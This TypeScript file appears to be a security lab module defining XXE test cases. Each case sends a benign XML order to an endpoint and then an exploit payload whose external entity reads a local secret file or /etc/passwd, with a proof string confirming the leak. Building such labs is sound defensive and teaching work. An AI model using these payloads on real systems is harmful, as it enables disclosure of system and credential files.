import type { LabModule, Saved } from '../../labModule';

const HONEST = '<order><item>tea &amp; cake</item></order>';
const bomb = ({ folder }: Saved) =>
  `<!DOCTYPE order [<!ENTITY secret SYSTEM "file://${folder}/secret.txt">]><order><item>&secret;</item></order>`;

export const lab: LabModule = {
  cases: [
    {
      name: 'a parser that resolves entities',
      honest: [{ to: 'POST /order', body: HONEST, shows: 'tea & cake' }],
      exploit: [{ to: 'POST /order', body: bomb }],
      proof: { body: 'hidden-token' },
    },
    {
      name: 'a parser of the module',
      honest: [{ to: 'POST /shared', body: HONEST, shows: 'tea & cake' }],
      exploit: [{ to: 'POST /shared', body: bomb }],
      proof: { body: 'hidden-token' },
    },
    {
      name: 'an uploaded file',
      honest: [
        { to: 'POST /file', files: { order: { name: 'a.xml', content: HONEST } }, shows: 'tea & cake' },
      ],
      exploit: [
        {
          to: 'POST /file',
          files: {
            order: {
              name: 'a.xml',
              content:
                '<!DOCTYPE order [<!ENTITY secret SYSTEM "file:///etc/passwd">]><order><item>&secret;</item></order>',
            },
          },
        },
      ],
      proof: { body: 'root:' },
    },
  ],
};
